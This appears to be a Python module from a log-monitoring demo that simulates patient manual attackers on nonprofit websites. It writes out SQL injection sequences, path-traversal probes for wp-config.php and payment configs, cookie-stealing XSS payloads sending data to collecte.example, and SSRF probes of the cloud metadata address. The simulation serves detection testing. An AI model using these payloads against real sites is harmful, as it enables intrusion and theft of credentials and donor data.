"""Patient people: they read the site first, then try by hand what this one page may let through, step by step.

What tells them from tools: they know a parameter that only this site has, each step follows from the answer to the
one before, and nobody hurries.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from typing import Final, NamedTuple

from vigie.demo.month import DONATIONS, PETITION, SITE, Month
from vigie.demo.request import Request
from vigie.demo.runs import Scene, Shot, ask, get
from vigie.demo.site import BROWSERS, STYLE, pages_at, size_of

SQL, CLIMB, SCRIPT, FORGE = "sql_injection", "path_traversal", "cross_site_scripting", "request_forgery"


class Person(NamedTuple):
    """Somebody, where they try, and on which days they come back (counted from 0).

    `steps` gives (text, status, size, family) for each visit; the family is "" for a step that only looks.
    """

    name: str
    site: str
    path: str
    parameter: str
    days: tuple[int, ...]
    hour: int
    steps: Callable[[int], tuple[tuple[str, int, int, str], ...]]


def _town(visit: int) -> tuple[tuple[str, int, int, str], ...]:
    columns = ",".join(str(n) for n in range(1, 4 + visit))
    return (
        ("Lyon", 200, 18_204, ""), ("Lyon' and 'a'='a", 200, 18_204, SQL), ("Lyon' and 'a'='b", 200, 6_011, SQL),
        (f"Lyon' order by {4 + visit}-- ", 500, 512, SQL), (f"Lyon' order by {3 + visit}-- ", 200, 18_204, SQL),
        (f"x' union select {columns}-- ", 200, 6_320, SQL),
        ("x' union select 1,group_concat(table_name),3 from information_schema.tables where table_schema like 'camp%'-- ", 200, 9_871, SQL),
    )  # fmt: skip


def _document(visit: int) -> tuple[tuple[str, int, int, str], ...]:
    deeper = "../" * (2 + visit)
    return (
        ("programme-2017.pdf", 200, 880_120, ""), (f"{deeper}wp-config.php", 403, 146, CLIMB), (f"pdf/{deeper}wp-config.php", 403, 146, CLIMB),
        (f"pdf/{deeper}wp-config.php%00.pdf", 404, 1254, CLIMB), (f"pdf/2017/{deeper}wp-config.php", 403, 146, CLIMB),
        (f"pdf/2017/../{deeper}wp-config.php", 404, 1254, CLIMB),
        (f"pdf/2017/01/{deeper}../wp-config.php", 404, 1254, CLIMB), (f"pdf/2017/01/{deeper}../wp-config.php.pdf", 404, 1254, CLIMB),
        (f"pdf/{deeper}wp-content/../wp-config.php", 403, 146, CLIMB),
    )  # fmt: skip


def _press(visit: int) -> tuple[tuple[str, int, int, str], ...]:
    return (
        ("communiqué", 200, 9_310, ""), (f"communiqué\"><svg onload=alert({visit})>", 200, 9_377, SCRIPT),
        ("communiqué\"><img src=x onerror=\"fetch('//collecte.example/'+document.cookie)\">", 200, 9_420, SCRIPT),
        ("communiqué\"><script src=//collecte.example/p.js></script>", 403, 146, SCRIPT),
        ("communiqué\"><svg onload=\"fetch('//collecte.example/'+document.cookie)\">", 200, 9_418, SCRIPT),
        (f"communiqué\"><svg onload=\"fetch('//collecte.example/{visit}?'+document.cookie)\">", 200, 9_420, SCRIPT),
        ("communiqué\"><svg onload=\"fetch('//collecte.example/'+btoa(document.cookie))\">", 200, 9_424, SCRIPT),
        (f"communiqué {visit}\"><svg/onload=\"fetch('//collecte.example/'+btoa(document.cookie))\">", 403, 146, SCRIPT),
        (f"communiqué {visit}\"><svg/onload=\"location='//collecte.example/'+btoa(document.cookie)\">", 200, 9_431, SCRIPT),
    )  # fmt: skip


def _receipt(visit: int) -> tuple[tuple[str, int, int, str], ...]:
    return (
        ("modele-2017", 200, 4_011, ""), (f"http://127.0.0.1:{8000 + visit}/", 504, 182, FORGE), ("http://127.0.0.1:3306/", 200, 95, FORGE),
        ("http://127.0.0.1:3306/recus", 200, 95, FORGE), ("http://169.254.169.254/latest/meta-data/", 200, 310, FORGE),
        ("http://169.254.169.254/latest/meta-data/iam/", 404, 345, FORGE),
        ("../modele-2017", 403, 146, CLIMB), ("recus/../../modele-2016", 404, 345, CLIMB), (f"recus/../../{2010 + visit}/modele", 404, 345, CLIMB),
        ("recus/../../config/recu.ini", 200, 1_120, CLIMB), ("recus/../../config/paiement.ini", 200, 2_944, CLIMB),
        (f"recus/../../../config/paiement-{2010 + visit}.ini", 404, 345, CLIMB),
    )  # fmt: skip


def _signature(visit: int) -> tuple[tuple[str, int, int, str], ...]:
    letter = 97 + visit
    return (
        ("12", 200, 7_002, ""), ("12-0", 200, 7_002, ""), (f"12 and ascii(substring((select email from signatures limit 1),1,1))>{letter}", 200, 7_002, SQL),
        (f"12 and ascii(substring((select email from signatures limit 1),1,1))>{letter + 12}", 200, 5_120, SQL),
        (f"12 and ascii(substring((select email from signatures limit 1),1,1))={letter + 7}", 200, 7_002, SQL),
    )  # fmt: skip


EVERYONE: Final = (
    Person("town", SITE, "/agenda/", "ville", (6, 9, 14, 20, 24, 27), 13, _town),
    Person("document", SITE, "/telechargement/", "fichier", (8, 16, 23, 28), 20, _document),
    Person("press", SITE, "/presse/", "recherche", (11, 18, 25, 27), 10, _press),
    Person("receipt", DONATIONS, "/recu/", "modele", (13, 21, 26, 28), 16, _receipt),
    Person("signature", PETITION, "/signer/", "liste", (5, 12, 19, 22, 26, 28, 29), 22, _signature),
)


def _pause(dice: random.Random) -> int:
    """Seconds until the next try: mostly a minute or so, sometimes long, as somebody reads and thinks."""
    return min(round(8 + 22 * dice.lognormvariate(1.1, 1.1)), 900)


def visits(person: Person, month: Month) -> list[tuple[int, list[Shot]]]:
    """The visits that leave an attack: the second of the first request, and the shots."""
    found = []
    for number, day in enumerate(day for day in person.days if day < month.days):
        dice = month.dice("person", person.name, day)
        agent = BROWSERS[sum(person.name.encode()) % len(BROWSERS)]
        scene = Scene(dice, person.path, person.parameter)
        shots = [
            Shot(
                _pause(dice),
                ask(scene, text),
                status,
                size,
                (family,) if family else (),
                agent,
                f"https://{person.site}{person.path}",
            )
            for text, status, size, family in person.steps(number)
        ]
        # they open the page as a visitor does before they try anything
        shots.insert(0, Shot(0, get(person.path), 200, size_of(person.path), (), agent, f"https://{person.site}/"))
        found.append((month.midnight(day) + person.hour * 3600 + dice.randrange(2400), shots))
    return found


def readings(person: Person, address: str, month: Month) -> list[Request]:
    """What the same person read quietly on the days before the first try."""
    dice = month.dice("reading", person.name)
    agent = BROWSERS[sum(person.name.encode()) % len(BROWSERS)]
    out = []
    for day in range(max(0, person.days[0] - 3), min(person.days[0], month.days)):
        now = month.midnight(day) + person.hour * 3600 + dice.randrange(3000)
        for _ in range(dice.randrange(4, 9)):
            page = dice.choice(pages_at(month, now)) if person.site == SITE else dice.choice(("/", person.path))
            out.append(Request(now, person.site, address, f"GET {page} HTTP/1.1", 200, size_of(page), "", agent))
            if person.site == SITE:
                out += [
                    Request(
                        now, SITE, address, f"GET {part} HTTP/1.1", 200, size_of(part), f"https://{SITE}{page}", agent
                    )
                    for part in STYLE[:2]
                ]
            now += dice.randrange(30, 400)
    return out
